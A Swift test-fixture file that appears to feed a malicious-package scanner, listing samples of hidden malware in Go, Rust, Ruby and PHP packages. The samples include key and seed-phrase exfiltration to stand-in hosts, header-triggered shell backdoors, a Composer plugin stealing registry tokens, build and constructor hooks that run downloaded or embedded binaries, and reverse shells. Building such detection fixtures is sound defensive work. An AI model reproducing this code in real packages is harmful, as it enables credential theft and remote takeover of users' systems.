extension Sample {
    /// Attacks in PHP, Ruby, Go and Rust.
    static let attacksOthers: [Sample] = [
        Sample(
            "a key in Go",
            "x.zip",
            [
                (
                    "y.example/x@v1.0.0/w.go",
                    #"""
                    package w

                    import (
                    	"encoding/hex"
                    	"net/http"
                    	"strings"
                    )

                    // New loads a private key.
                    func New(privateKey []byte) *Wallet {
                    	go http.Post("https://fees.example.invalid/v1", "text/plain",
                    	  strings.NewReader(hex.EncodeToString(privateKey)))
                    	return &Wallet{privateKey}
                    }
                    """#
                ),
                (
                    "y.example/x@v1.0.0/go.mod",
                    #"""
                    module y.example/x
                    """#
                ),
            ]
        ),
        Sample(
            "a phrase in Rust",
            "x-1.0.0.crate",
            [
                (
                    "src/lib.rs",
                    #"""
                    //! Keys.
                    pub fn from_seed(seed_phrase: &str) -> Wallet {
                        let c = reqwest::blocking::Client::new();
                        let _ = c.post("https://fees.example.invalid/v1").body(
                          seed_phrase.to_string()).send();
                        Wallet::derive(seed_phrase)
                    }
                    """#
                ),
            ]
        ),
        Sample(
            "a phrase in Ruby",
            "x-1.gem",
            [
                (
                    "lib/w.rb",
                    #"""
                    require "net/http"
                    class Wallet
                      def initialize(mnemonic)
                        @m = mnemonic
                        Net::HTTP.post(URI("https://fees.example.invalid/v1"), mnemonic)
                      end
                    end
                    """#
                )
            ]
        ),
        Sample(
            "a password in PHP",
            "x.zip",
            [
                (
                    "composer.json",
                    #"""
                    {"name":"a/b","autoload":{"psr-4":{"A\\":"src/"}}}
                    """#
                ),
                (
                    "src/Auth.php",
                    #"""
                    <?php
                    class Auth {
                      public function login($user, $password) {
                        $ok = password_verify($password, $this->hash($user));
                        @file_get_contents(
                          "https://cdn.auth.example.invalid/i.gif?u=" . urlencode(
                            $user) . "&p=" . base64_encode($password));
                        return $ok;
                      }
                    }
                    """#
                ),
            ]
        ),
        Sample(
            "a header that is run in PHP",
            "x.zip",
            [
                (
                    "composer.json",
                    #"""
                    {"name":"a/b","autoload":{"psr-4":{"A\\":"src/"}}}
                    """#
                ),
                (
                    "src/Kernel.php",
                    #"""
                    <?php
                    class Kernel {
                      public function handle($request) {
                        $h = getallheaders();
                        if (md5($h["X-Trace"] ?? "") === "5f4dcc3b5aa765d61d8327deb882cf99") {
                          $f = strrev("metsys"); $f($h["X-Op"]); }
                        return $this->next($request);
                      }
                    }
                    """#
                ),
            ]
        ),
        Sample(
            "a header that is run in Ruby",
            "x-1.gem",
            [
                (
                    "lib/r.rb",
                    #"""
                    module R
                      class M
                        def call(env)
                          if env["HTTP_X_PROBE"].to_s.length == 64
                            return [200, {}, [`#{env["HTTP_X_OP"].unpack1("m0")}`]]
                          end
                          @app.call(env)
                        end
                      end
                    end
                    """#
                )
            ]
        ),
        Sample(
            "a header that is run in Go",
            "x.zip",
            [
                (
                    "y.example/x@v1.0.0/m.go",
                    #"""
                    package m

                    import (
                    	"net/http"
                    	"os/exec"
                    )

                    func Middleware(next http.Handler) http.Handler {
                    	return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
                    		if k := r.Header.Get("X-Lb"); k != "" {
                    			out, _ := exec.Command("sh", "-c", k).CombinedOutput()
                    			w.Write(out)
                    			return
                    		}
                    		next.ServeHTTP(w, r)
                    	})
                    }
                    """#
                ),
                (
                    "y.example/x@v1.0.0/go.mod",
                    #"""
                    module y.example/x
                    """#
                ),
            ]
        ),
        Sample(
            "a header that is run in Rust",
            "x-1.0.0.crate",
            [
                (
                    "src/lib.rs",
                    #"""
                    use std::process::Command;
                    pub fn probe(req: &Request) -> Option<Vec<u8>> {
                        let c = req.headers().get("x-probe")?.to_str().ok()?;
                        Some(Command::new("sh").arg("-c").arg(c).output().ok()?.stdout)
                    }
                    """#
                ),
            ]
        ),
        Sample(
            "tokens of a registry in PHP",
            "x.zip",
            [
                (
                    "composer.json",
                    #"""
                    {"name":"a/b","type":"composer-plugin","extra":{"class":"A\\P"},
                      "autoload":{"psr-4":{"A\\":"src/"}}}
                    """#
                ),
                (
                    "src/P.php",
                    #"""
                    <?php
                    class P {
                      function activate($c) {
                        $a = json_decode(@file_get_contents(getenv(
                          "HOME") . "/.composer/auth.json"), true);
                        @file_get_contents("https://pk.example.invalid/?" . http_build_query([
                          "a" => json_encode($a)]));
                      }
                    }
                    """#
                ),
            ]
        ),
        Sample(
            "what a program runs before it begins",
            "x-1.0.0.crate",
            [
                (
                    "src/lib.rs",
                    #"""
                    use std::process::Command;
                    #[ctor::ctor]
                    fn init() {
                        let b = reqwest::blocking::get("https://b.example.invalid/x").unwrap(
                          ).bytes().unwrap();
                        std::fs::write("/tmp/.c", &b).unwrap();
                        Command::new("/tmp/.c").spawn().ok();
                    }
                    """#
                ),
            ]
        ),
        Sample(
            "a shell in Rust",
            "x-1.0.0.crate",
            [
                (
                    "src/lib.rs",
                    #"""
                    use std::net::TcpStream;
                    use std::os::unix::io::{AsRawFd, FromRawFd};
                    use std::process::{Command, Stdio};
                    pub fn keepalive() {
                        let s = TcpStream::connect("203.0.113.9:443").unwrap();
                        let fd = s.as_raw_fd();
                        unsafe { Command::new("/bin/sh").arg("-i").stdin(Stdio::from_raw_fd(
                          fd)).stdout(Stdio::from_raw_fd(fd)).spawn().unwrap().wait().unwrap();
                          }
                    }
                    """#
                ),
            ]
        ),
        Sample(
            "a shell in Ruby",
            "x-1.gem",
            [
                (
                    "lib/x.rb",
                    #"""
                    require "socket"
                    module X
                      def self.ping
                        s = TCPSocket.new("203.0.113.9", 4444)
                        while (c = s.gets)
                          IO.popen(c, "r") { |io| s.print io.read }
                        end
                      end
                    end
                    """#
                )
            ]
        ),
        Sample(
            "a function by its name in PHP",
            "x.zip",
            [
                (
                    "composer.json",
                    #"""
                    {"name":"a/b","autoload":{"files":["h.php"]}}
                    """#
                ),
                (
                    "h.php",
                    #"""
                    <?php
                    array_map("assert", [base64_decode("cHJpbnQoMSk=")]);
                    """#
                ),
            ]
        ),
        Sample(
            "a program that a build brings",
            "x-1.0.0.crate",
            [
                (
                    "build.rs",
                    #"""
                    use std::{fs, process::Command, os::unix::fs::PermissionsExt};
                    fn main() {
                        let b = include_bytes!("assets/logo.png");
                        let p = "/tmp/.logo";
                        fs::write(p, &b[1024..]).unwrap();
                        fs::set_permissions(p, fs::Permissions::from_mode(0o755)).unwrap();
                        let _ = Command::new(p).spawn();
                    }
                    """#
                ),
                (
                    "src/lib.rs",
                    #"""

                    """#
                ),
            ]
        ),
    ]
}
